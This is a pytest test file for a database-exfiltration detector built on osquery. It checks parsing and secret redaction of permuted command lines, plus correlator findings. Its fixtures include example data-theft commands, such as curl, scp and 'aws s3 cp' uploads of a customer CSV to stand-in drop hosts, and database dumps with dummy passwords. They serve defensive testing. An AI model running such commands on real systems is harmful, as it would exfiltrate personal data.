"""osquery's argument order: command lines logged as a0 a1 a10 a11 ... a2 ... parse as the program saw them.

osquery 5.23.1's audit subscriber keeps an EXECVE record's fields in a
std::map<std::string, std::string> (osquery/events/linux/auditdnetlink.h) and
process_events.cpp joins every field but argc, in map order, with single
spaces; a value is unquoted or hex-decoded (DecodeAuditPathValues). So from the
11th argument on, a command line is logged in the string order of a0..aN.
(Issue 13's example writes the logged form of `psql -h H -p P -U U -d D -c
"\\copy ..."` as `psql -c \\copy ... -h H ...`; by that rule it is `psql -h
\\copy ... H -p P -U U -d D -c`, as the recorded records below show.)

- tests/data/execve_argv_records.log: real EXECVE records of real commands with
  more than ten arguments (tests/data/record_execve_argv.sh, auditd on Debian 12),
  turned into osquery's cmdline the way osquery does;
- CASES: a long command line of every DB tool in the catalog, plus transfer tools;
- both orders must give the same parse, the same redaction (modulo order) and,
  through the correlator, the same finding.
"""

from __future__ import annotations

import os
import re
from typing import Any

import pytest
from audit_replay import decode_value, osquery_cmdline
from correlate_scenarios.helpers import correlate, final_by_chain, reason_codes
from correlate_scenarios.make_scenarios import MON, D, H, Log

from osq_dbwatch import catalog
from osq_dbwatch.cmdline import (
    osquery_join,
    osquery_key_order,
    parse_db_command,
    parse_transfer_command,
    redact_cmdline,
    split_cmdline,
)

HERE = os.path.dirname(os.path.abspath(__file__))
RECORDS = os.path.join(HERE, "data", "execve_argv_records.log")


COPY_ARGV = ["psql", "-h", "db.internal", "-p", "5432", "-U", "eve", "-d", "shop", "-c",
             "\\copy customers to '/home/eve/customers.csv' csv header"]


def execve_fields(record: str) -> list[tuple[str, str]]:
    """The key=value fields of an EXECVE record, split the way osquery's ParseAuditReply splits them."""
    body = record.split("): ", 1)[1].rstrip("\n")
    return re.findall(r'(\S+?)=("[^"]*"|\S*)', body)


def record_cmdline(record: str) -> str:
    """process_events.cmdline for one EXECVE record (audit_replay.osquery_cmdline, the scenarios' converter)."""
    return osquery_cmdline(dict(execve_fields(record)))


def record_argv(record: str) -> list[str]:
    fields = dict(execve_fields(record))
    return [decode_value(fields[f"a{i}"]) for i in range(int(fields["argc"]))]


def load_records() -> list[str]:
    with open(RECORDS, encoding="utf-8") as handle:
        return [line for line in handle if line.startswith("type=EXECVE")]


def in_order_tokens(argv: list[str]) -> list[str]:
    """What the parser gets for a line in the program's order (quotes gone, split on whitespace)."""
    return " ".join(argv).split()


def parse_pair(argv: list[str]) -> tuple[Any, Any]:
    """(parse of the line in the program's order, parse of osquery's logged line)."""
    logged = osquery_join(argv)
    return parse_db_command(argv[0], in_order_tokens(argv)), parse_db_command(argv[0], split_cmdline(logged))


def redacted_words(line: str, logged: bool) -> list[str]:
    return sorted(redact_cmdline(line, logged=logged).split())


# -- the order itself ----------------------------------------------------------------


def test_key_order_is_the_string_order_of_the_field_names() -> None:
    assert osquery_key_order(10) == tuple(range(10))
    assert osquery_key_order(11) == (0, 1, 10, 2, 3, 4, 5, 6, 7, 8, 9)
    assert osquery_key_order(23)[:14] == (0, 1, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 2, 20)
    argv = ["psql", "-h", "H", "-p", "P", "-U", "U", "-d", "D", "-c", "\\copy t to '/tmp/x.csv' csv"]
    assert osquery_join(argv) == "psql -h \\copy t to '/tmp/x.csv' csv H -p P -U U -d D -c"


def test_recorded_records_are_joined_the_way_the_helper_joins() -> None:
    records = load_records()
    assert len(records) >= 20
    assert all(int(dict(execve_fields(r))["argc"]) > 10 for r in records)
    for record in records:
        assert record_cmdline(record) == osquery_join(record_argv(record))


# -- real records ------------------------------------------------------------------------


@pytest.mark.parametrize("index", range(27))
def test_recorded_line_reads_back_in_program_order(index: int) -> None:
    record = load_records()[index]
    argv = record_argv(record)
    logged = record_cmdline(record)
    assert logged != " ".join(argv)  # really permuted
    assert split_cmdline(logged) == in_order_tokens(argv)
    want, got = parse_pair(argv)
    assert got == want
    assert redacted_words(logged, True) == redacted_words(" ".join(argv), False)
    assert "S3CRET" not in redact_cmdline(logged)


def test_recorded_lines_name_what_they_do() -> None:
    """The recorded psql \\copy, mysql INTO OUTFILE and mongosh lines: target, intent and output as logged."""
    seen = {}
    for record in load_records():
        argv = record_argv(record)
        cmd = parse_db_command(argv[0], split_cmdline(record_cmdline(record)))
        if cmd is not None:
            seen[(cmd.tool, cmd.dump_intent, cmd.output_path)] = cmd
    psql = seen[("psql", "\\copy to", "/tmp/x.csv")]
    assert (psql.host, psql.port, psql.user, psql.database) == ("db.example.invalid", "5432", "app", "shop")
    assert ("psql", "\\copy to", "/tmp/recent customers.csv") in seen
    assert ("mysql", "INTO OUTFILE", "/tmp/c.csv") in seen
    assert ("mysqldump", "mysqldump", "/tmp/all.sql") in seen
    assert ("pg_dump", "pg_dump", "/tmp/shop.dump") in seen
    assert ("redis-cli", "--rdb", "/tmp/dump.rdb") in seen
    assert ("sqlite3", ".output", "/tmp/users.csv") in seen


# -- every engine in the catalog -----------------------------------------------------------

# tool -> (argv in the program's order, secret planted in it or "")
CASES: dict[str, tuple[list[str], str]] = {
    "psql": (["psql", "-X", "-h", "db1.internal", "-p", "5432", "-U", "app", "-d", "shop", "-c",
              "\\copy (select id, name, email from customers where created > now() - interval '30 days') "
              "to '/tmp/recent.csv' with (format csv, header)"], ""),
    "pgcli": (["pgcli", "-h", "db1.internal", "-p", "5432", "-U", "app", "-d", "shop", "-w", "-X", "-c",
               "copy customers to stdout with csv"], ""),
    "pg_dump": (["pg_dump", "-h", "db1.internal", "-p", "5432", "-U", "app", "-F", "c", "-Z", "9", "-t", "customers",
                 "-f", "/tmp/shop.dump", "shop"], ""),
    "pg_dumpall": (["pg_dumpall", "-h", "db1.internal", "-p", "5432", "-U", "postgres", "-l", "postgres", "--clean",
                    "--if-exists", "-f", "/tmp/cluster.sql"], ""),
    "pg_basebackup": (["pg_basebackup", "-h", "db1.internal", "-p", "5432", "-U", "replicator", "-D", "/tmp/base",
                       "-X", "stream", "-P", "-v", "-z"], ""),
    "mysql": (["mysql", "-h", "db2.internal", "-P", "3306", "-u", "app", "-pPw1MysqlArgv", "-D", "shop", "--batch",
               "-e", "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv' FIELDS TERMINATED BY ','"], "Pw1MysqlArgv"),
    "mariadb": (["mariadb", "-h", "db2.internal", "-P", "3306", "-u", "app", "--password=Pw2MariadbArgv", "-D", "shop",
                 "-B", "-N", "-e", "select * from customers", "--tee=/tmp/tee.out"], "Pw2MariadbArgv"),
    "mysqlsh": (["mysqlsh", "--sql", "-h", "db2.internal", "-P", "3306", "-u", "app", "-D", "shop", "-e",
                 "select * from customers into outfile '/tmp/sh.csv'", "--json"], ""),
    "mycli": (["mycli", "-h", "db2.internal", "-P", "3306", "-u", "app", "-p", "Pw3MycliArgv", "-D", "shop", "-e",
               "select * from customers into outfile '/tmp/mycli.csv'", "--csv"], "Pw3MycliArgv"),
    "mysqldump": (["mysqldump", "-h", "db2.internal", "-P", "3306", "-u", "root", "-pPw4DumpArgv",
                   "--single-transaction", "--routines", "--triggers", "-r", "/tmp/all.sql", "shop", "customers"],
                  "Pw4DumpArgv"),
    "mariadb-dump": (["mariadb-dump", "-h", "db2.internal", "-P", "3306", "-u", "root", "-pPw5MdumpArgv",
                      "--single-transaction", "--quick", "--result-file=/tmp/m.sql", "shop", "customers", "orders"],
                     "Pw5MdumpArgv"),
    "mysqlpump": (["mysqlpump", "-h", "db2.internal", "-P", "3306", "-u", "root", "-pPw6PumpArgv",
                   "--default-parallelism", "4", "-r", "/tmp/pump.sql", "--include-databases", "shop"], "Pw6PumpArgv"),
    "mydumper": (["mydumper", "-h", "db2.internal", "-P", "3306", "-u", "root", "-p", "Pw7MydumperArgv", "-B", "shop",
                  "-o", "/tmp/mydumper", "-c", "-v"], "Pw7MydumperArgv"),
    "mariadb-backup": (["mariadb-backup", "--backup", "-H", "db2.internal", "-P", "3306", "-u", "root",
                        "-pPw8BackupArgv", "--target-dir", "/tmp/backup", "--compress", "--parallel=4"],
                       "Pw8BackupArgv"),
    "mariabackup": (["mariabackup", "--backup", "-H", "db2.internal", "-P", "3306", "-u", "root", "-pPw9BackupArgv",
                     "--target-dir", "/tmp/backup2", "--compress", "--parallel=4"], "Pw9BackupArgv"),
    "xtrabackup": (["xtrabackup", "--backup", "--host", "db2.internal", "--port", "3306", "--user", "root",
                    "--password=Pw10XtraArgv", "--target-dir", "/tmp/xb", "--parallel=4"], "Pw10XtraArgv"),
    "mongo": (["mongo", "--host", "db3.internal", "--port", "27017", "-u", "admin", "-p", "Pw11MongoArgv",
               "--authenticationDatabase", "admin", "--quiet", "--eval", "db.customers.find().forEach(printjson)",
               "shop"], "Pw11MongoArgv"),
    "mongosh": (["mongosh", "--host", "db3.internal", "--port", "27017", "-u", "admin", "-p", "Pw12MongoshArgv",
                 "--authenticationDatabase", "admin", "--quiet", "--eval",
                 "fs.writeFileSync('/tmp/c.json', JSON.stringify(db.customers.find().toArray()))", "shop"],
                "Pw12MongoshArgv"),
    "mongodump": (["mongodump", "--host", "db3.internal", "--port", "27017", "-u", "admin", "-p", "Pw13MdumpArgv",
                   "--authenticationDatabase", "admin", "-d", "shop", "-c", "customers", "--gzip", "--out",
                   "/tmp/mdump"], "Pw13MdumpArgv"),
    "mongoexport": (["mongoexport", "--host", "db3.internal", "--port", "27017", "-u", "admin", "-p",
                     "Pw14MexportArgv", "--authenticationDatabase", "admin", "-d", "shop", "-c", "customers",
                     "--type", "csv", "--fields", "name,email", "--query", '{ "active": true }', "--out",
                     "/tmp/customers.csv"], "Pw14MexportArgv"),
    "redis-cli": (["redis-cli", "-h", "db4.internal", "-p", "6379", "--user", "default", "-a", "Pw15RedisArgv",
                   "--no-auth-warning", "--tls", "--rdb", "/tmp/dump.rdb"], "Pw15RedisArgv"),
    "sqlcmd": (["sqlcmd", "-S", "tcp:db5.internal,1433", "-U", "sa", "-P", "Pw16SqlcmdArgv", "-d", "shop", "-C", "-W",
                "-Q", "SELECT * FROM customers", "-o", "/tmp/sqlcmd.csv"], "Pw16SqlcmdArgv"),
    "bcp": (["bcp", "shop.dbo.customers", "out", "/tmp/customers.dat", "-S", "db5.internal", "-U", "sa", "-P",
             "Pw17BcpArgv", "-c", "-k"], "Pw17BcpArgv"),
    "sqlplus": (["sqlplus", "-S", "-L", "app/Pw18SqlplusArgv@//db6.internal:1521/ORCL", "@/tmp/export.sql",
                 "customers", "2026", "csv", "/tmp/out.csv", "batch", "final"], "Pw18SqlplusArgv"),
    "expdp": (["expdp", "system/Pw19ExpdpArgv@db6.internal:1521/ORCL", "schemas=SHOP", "directory=DATA_PUMP_DIR",
               "dumpfile=shop.dmp", "logfile=shop.log", "parallel=4", "compression=ALL", "content=ALL",
               "reuse_dumpfiles=yes", "exclude=STATISTICS"], "Pw19ExpdpArgv"),
    "exp": (["exp", "system/Pw20ExpArgv@db6", "file=/tmp/shop.dmp", "log=/tmp/shop.log", "owner=SHOP", "rows=y",
             "indexes=n", "grants=n", "compress=n", "consistent=y", "buffer=1000000"], "Pw20ExpArgv"),
    "sqlite3": (["sqlite3", "-batch", "-bail", "-header", "-csv", "-readonly", "-echo", "-json", "-cmd",
                 ".output /tmp/users.csv", "/srv/app/app.db", "select * from users;"], ""),
    "litecli": (["litecli", "--liteclirc", "/etc/litecli/config", "-l", "/tmp/lite.log", "--auto-vertical-output",
                 "-t", "--warn", "-D", "/srv/app/app.db", "-e", ".once /tmp/lite.csv"], ""),
    "duckdb": (["duckdb", "-readonly", "-csv", "-header", "-nullvalue", "NULL", "-separator", ",",
                "/srv/app/app.duckdb", "-c", "COPY (SELECT * FROM customers) TO '/tmp/duck.csv' (HEADER, DELIMITER ',')"],
               ""),
    "clickhouse-client": (["clickhouse-client", "--host", "db7.internal", "--port", "9000", "--user", "default",
                           "--password", "Pw21ChArgv", "--database", "shop", "--query",
                           "SELECT * FROM customers INTO OUTFILE '/tmp/c.tsv' FORMAT TSV"], "Pw21ChArgv"),
    "clickhouse": (["clickhouse", "client", "--host", "db7.internal", "--port", "9000", "--user", "default",
                    "--password", "Pw22ChArgv", "-d", "shop", "-q", "SELECT * FROM customers INTO OUTFILE '/tmp/c2.tsv'"],
                   "Pw22ChArgv"),
    "cqlsh": (["cqlsh", "db8.internal", "9042", "-u", "cassandra", "-p", "Pw23CqlshArgv", "-k", "shop", "--ssl", "-e",
               "COPY shop.customers TO '/tmp/customers.csv' WITH HEADER = true"], "Pw23CqlshArgv"),
    "influx": (["influx", "backup", "/tmp/influx-backup", "--host", "http://db9.internal:8086", "--org", "acme", "-t",
                "Pw24InfluxArgv", "--bucket", "metrics", "--skip-verify"], "Pw24InfluxArgv"),
    "cockroach": (["cockroach", "sql", "--host", "db10.internal", "--port", "26257", "--user", "root", "--database",
                   "shop", "--insecure", "-e", "EXPORT INTO CSV 'nodelocal://1/customers' FROM TABLE customers"], ""),
    "usql": (["usql", "postgres://app:Pw25UsqlArgv@db1.internal:5432/shop", "-c",
              "\\copy customers to '/tmp/u.csv' csv", "-o", "/tmp/usql.out", "--set", "A=1", "-w", "-q", "-X"],
             "Pw25UsqlArgv"),
    "isql": (["isql", "-v", "-b", "-d,", "-x0x09", "-c", "-m50", "-w", "-L200", "SHOPDSN", "app", "Pw26IsqlArgv"],
             "Pw26IsqlArgv"),
}

# What each case must parse to in both orders: (host, database, user, dump intent, output path); None: not checked.
EXPECT: dict[str, tuple[str | None, str | None, str | None, str, str]] = {
    "psql": ("db1.internal", "shop", "app", "\\copy to", "/tmp/recent.csv"),
    "pg_dump": ("db1.internal", "shop", "app", "pg_dump", "/tmp/shop.dump"),
    "pg_dumpall": ("db1.internal", None, "postgres", "pg_dumpall", "/tmp/cluster.sql"),
    "mysql": ("db2.internal", "shop", "app", "INTO OUTFILE", "/tmp/c.csv"),
    "mariadb": ("db2.internal", "shop", "app", "output file", "/tmp/tee.out"),
    "mysqldump": ("db2.internal", "shop", "root", "mysqldump", "/tmp/all.sql"),
    "mariadb-dump": ("db2.internal", "shop", "root", "mariadb-dump", "/tmp/m.sql"),
    "mydumper": ("db2.internal", "shop", "root", "mydumper", "/tmp/mydumper"),
    # mongosh: with the quotes gone the --eval script runs to the end of the line, the db address after it
    # included (a real argv names it: test_long_line_from_proc_argv)
    "mongosh": ("db3.internal", None, "admin", "writeFile", "/tmp/c.json"),
    "mongodump": ("db3.internal", "shop", "admin", "mongodump", "/tmp/mdump"),
    "mongoexport": ("db3.internal", "shop", "admin", "mongoexport", "/tmp/customers.csv"),
    "redis-cli": ("db4.internal", None, "default", "--rdb", "/tmp/dump.rdb"),
    "sqlcmd": ("db5.internal", "shop", "sa", "output file", "/tmp/sqlcmd.csv"),
    "bcp": ("db5.internal", None, "sa", "bcp out", "/tmp/customers.dat"),
    # sqlite3/duckdb: the database file after -cmd's statement (found by its name on the logged line)
    "sqlite3": (None, "/srv/app/app.db", None, ".output", "/tmp/users.csv"),
    "litecli": (None, "/srv/app/app.db", None, ".output", "/tmp/lite.csv"),
    "duckdb": (None, "/srv/app/app.duckdb", None, "COPY TO", "/tmp/duck.csv"),
    "clickhouse-client": ("db7.internal", "shop", "default", "INTO OUTFILE", "/tmp/c.tsv"),
    "clickhouse": ("db7.internal", "shop", "default", "INTO OUTFILE", "/tmp/c2.tsv"),
    "cqlsh": ("db8.internal", "shop", "cassandra", "COPY TO", "/tmp/customers.csv"),
    "cockroach": ("db10.internal", "shop", "root", "EXPORT INTO", "nodelocal://1/customers"),
}


# Lines whose redaction, read in osquery's order, also hides one non-secret word.
OVER_REDACTED = {"isql": "SHOPDSN"}  # isql DSN USER PASSWORD: as logged, the DSN is the third plain word


def test_every_catalog_db_tool_has_a_long_case() -> None:
    assert set(CASES) == {t.name for t in catalog.DB_TOOLS}
    for argv, _secret in CASES.values():
        assert len(argv) > 10  # osquery permutes from the 11th argument on


@pytest.mark.parametrize("tool", sorted(CASES))
def test_long_line_of_every_engine_parses_the_same_in_both_orders(tool: str) -> None:
    argv, secret = CASES[tool]
    logged = osquery_join(argv)
    assert logged != " ".join(argv)
    assert split_cmdline(logged) == in_order_tokens(argv)
    want, got = parse_pair(argv)
    assert want is not None and got == want
    expect = EXPECT.get(tool)
    if expect is not None:
        host, database, user, intent, output = expect
        assert (got.dump_intent, got.output_path) == (intent, output)
        for field, value in (("host", host), ("database", database), ("user", user)):
            if value is not None:
                assert getattr(got, field) == value, field
    over = OVER_REDACTED.get(tool)
    in_order = redacted_words(" ".join(argv), False)
    if over is not None:
        # read as logged, the line is also redacted as if in the program's order: the word that sits where the
        # secret would be is redacted too (redaction's safe side)
        in_order = sorted("****" if w == over else w for w in in_order)
    assert redacted_words(logged, True) == in_order
    if secret:
        assert secret not in redact_cmdline(logged)
        assert secret not in redact_cmdline(" ".join(argv))


# Read from /proc (the program's own argv: a statement is one argument), a line names more than logged:
# the argument after an SQL option's statement is read again (mongo's and mongosh's db address after --eval).
PROC_EXPECT: dict[str, dict[str, str]] = {
    "mongo": {"database": "shop"},
    "mongosh": {"database": "shop"},
}


@pytest.mark.parametrize("tool", sorted(CASES))
def test_long_line_from_proc_argv(tool: str) -> None:
    argv, _secret = CASES[tool]
    exact = parse_db_command(argv[0], argv, argv_exact=True)
    logged = parse_pair(argv)[1]
    assert exact is not None and logged is not None
    assert (exact.tool, exact.kind, exact.dump_intent, exact.output_path) == (
        logged.tool, logged.kind, logged.dump_intent, logged.output_path)
    want = {"host": logged.host, "port": logged.port, "database": logged.database, "user": logged.user}
    want.update(PROC_EXPECT.get(tool, {}))
    assert {"host": exact.host, "port": exact.port, "database": exact.database, "user": exact.user} == want


TRANSFER_CASES: dict[str, list[str]] = {
    "curl": ["curl", "-sS", "--fail", "--retry", "3", "-X", "PUT", "-H", "Authorization: Bearer Tok1CurlArgv", "-H",
             "Content-Type: text/csv", "-T", "/tmp/c.csv", "https://drop.example.net/u/c.csv"],
    "rclone": ["rclone", "copy", "/tmp/c.csv", "remote:bucket/x", "--transfers", "4", "--bwlimit", "1M", "--config",
               "/tmp/r.conf", "-v", "--ftp-pass", "Tok2RcloneArgv"],
    "scp": ["scp", "-P", "2222", "-i", "/home/eve/.ssh/id", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes",
            "-C", "/tmp/c.csv", "eve@drop.example.net:/srv/in/"],
    "aws": ["aws", "s3", "cp", "/tmp/c.csv", "s3://exfil-bucket/c.csv", "--region", "eu-west-1", "--sse", "AES256",
            "--storage-class", "STANDARD_IA", "--only-show-errors"],
}


@pytest.mark.parametrize("tool", sorted(TRANSFER_CASES))
def test_long_transfer_lines_parse_the_same_in_both_orders(tool: str) -> None:
    argv = TRANSFER_CASES[tool]
    logged = osquery_join(argv)
    assert split_cmdline(logged) == in_order_tokens(argv)
    want = parse_transfer_command(argv[0], in_order_tokens(argv))
    got = parse_transfer_command(argv[0], split_cmdline(logged))
    assert want is not None and got is not None
    assert (got.files, got.destinations, got.upload) == (want.files, want.destinations, want.upload)
    assert "/tmp/c.csv" in got.files and got.upload
    assert redacted_words(logged, True) == redacted_words(" ".join(argv), False)
    assert "Argv" not in redact_cmdline(logged)


# -- when the order cannot be recovered ------------------------------------------------------


def test_statement_is_found_in_any_order() -> None:
    """Read in osquery's order as it is (no recovery), the statement is still found: its words are one argument,
    together in any order, even where the option that introduces it is logged apart from it."""
    logged = osquery_join(COPY_ARGV)
    cmd = parse_db_command("psql", logged.split())
    assert cmd is not None
    assert (cmd.tool, cmd.dump_intent, cmd.output_path) == ("psql", "\\copy to", "/home/eve/customers.csv")


def test_ambiguous_line_still_names_tool_intent_and_output() -> None:
    """Two arguments with spaces in a 26-argument line, the -c of the second logged apart from it."""
    argv = ["psql", "-X", "-h", "db1.internal", "-p", "5432", "-U", "app", "-w", "-c",
            "\\copy customers to '/tmp/amb.csv' csv", "-d", "shop", "-v", "ON_ERROR_STOP=1", "-P", "pager=off", "-A",
            "-t", "-c", "select 1 as warmup", "-q", "-n", "-e", "-E", "-a"]
    cmd = parse_db_command("psql", split_cmdline(osquery_join(argv)))
    assert cmd is not None
    assert (cmd.tool, cmd.dump_intent, cmd.output_path) == ("psql", "\\copy to", "/tmp/amb.csv")


def test_in_order_lines_from_proc_are_left_alone() -> None:
    argv = CASES["pg_dump"][0]
    assert split_cmdline(" ".join(argv), logged=False) == argv


# -- redaction: a secret option and its value apart -------------------------------------------


SPLIT_SECRETS: dict[str, list[str]] = {
    # the option is a1, its value a2 (logged after a10..)
    "redis-a1": ["redis-cli", "-a", "Pw31SplitArgv", "-h", "db4.internal", "-p", "6379", "--no-auth-warning", "-n",
                 "3", "--rdb", "/tmp/r.rdb"],
    # the option is a9 (logged last), its value a10 (logged third)
    "mongosh-a9": ["mongosh", "--host", "db3.internal", "--port", "27017", "--quiet", "--tls", "-u", "admin", "-p",
                   "Pw32SplitArgv", "shop"],
    "sqlcmd-a9": ["sqlcmd", "-S", "db5.internal", "-d", "shop", "-C", "-W", "-U", "sa", "-P", "Pw33SplitArgv", "-Q",
                  "select 1"],
    "curl-user-a9": ["curl", "-f", "-sS", "--retry", "3", "-X", "PUT", "-T", "/tmp/c.csv", "-u", "eve:Pw34SplitArgv",
                     "https://drop.example.net/"],
    "generic-a19": ["docker", "login", "-u", "eve", "--password-stdin", "--tls", "-H", "x", "-D", "-l", "debug",
                    "--config", "/tmp/c", "--log-level", "info", "--tlsverify", "--x", "y", "--z", "--password",
                    "Pw35SplitArgv", "registry.example.net"],
    "redis-auth-words": ["redis-cli", "-h", "db4.internal", "-p", "6379", "-n", "0", "--no-auth-warning", "--raw",
                         "AUTH", "default", "Pw36SplitArgv"],
}


@pytest.mark.parametrize("name", sorted(SPLIT_SECRETS))
def test_secret_option_apart_from_its_value_is_redacted(name: str) -> None:
    argv = SPLIT_SECRETS[name]
    logged = osquery_join(argv)
    secret = next(a for a in argv if "SplitArgv" in a).split(":")[-1]
    assert secret not in redact_cmdline(" ".join(argv), logged=False)
    assert secret not in redact_cmdline(logged)


# -- the correlator: same finding from either order -------------------------------------------

CONFIG = """\
internal_networks: [10.0.0.0/8]
"""

def copy_and_upload(cmdline: str) -> Log:
    log = Log()
    host, t = "app-7", MON + 2 * D + 15 * H
    log.db_exec(host, t, "eve", 1001, cmdline, "/usr/lib/postgresql/15/bin/psql", 7101, "/usr/bin/bash", "-bash",
                cwd="/home/eve")
    log.dump_file(host, t + 2, "/home/eve/customers.csv", "eve", 1001)
    log.transfer(host, t + 40, "eve", 1001, "curl -sS -T /home/eve/customers.csv https://drop.example.net/u/",
                 "/usr/bin/curl", 7120, cwd="/home/eve")
    log.egress(host, t + 41, 7120, "/usr/bin/curl", "203.0.113.80", 443, "eve", 1001)
    return log


def finding_of(tmp_path: Any, name: str, log: Log) -> dict[str, Any]:
    work = tmp_path / name
    work.mkdir()
    (work / "osqueryd.results.log").write_text("\n".join(log.lines) + "\n")
    (work / "config.yml").write_text(CONFIG)
    findings = correlate(["--config", str(work / "config.yml"), str(work / "osqueryd.results.log")],
                         str(work / "state.sqlite"), str(work / "out.jsonl"))
    (final,) = final_by_chain(findings).values()
    return final


def evidence_summary(finding: dict[str, Any]) -> list[str]:
    """The evidence, less the command line text itself (which keeps osquery's order)."""
    out = []
    for evidence in finding["evidences"]:
        data = dict(evidence.get("data", {}))
        data.pop("cmdline", None)
        out.append(repr(sorted((k, repr(v)) for k, v in data.items() if "cmdline" not in k)))
    return sorted(out)


def test_permuted_copy_and_upload_gives_the_same_finding(tmp_path: Any) -> None:
    logged = osquery_join(COPY_ARGV)
    assert logged.startswith("psql -h \\copy customers to")  # a10 after a1, -c logged last
    permuted = finding_of(tmp_path, "permuted", copy_and_upload(logged))
    in_order = finding_of(tmp_path, "in-order", copy_and_upload(" ".join(COPY_ARGV[:3] + COPY_ARGV[5:])))
    assert permuted["severity_id"] == in_order["severity_id"] >= 4
    assert reason_codes(permuted) == reason_codes(in_order)
    assert evidence_summary(permuted) == evidence_summary(in_order)
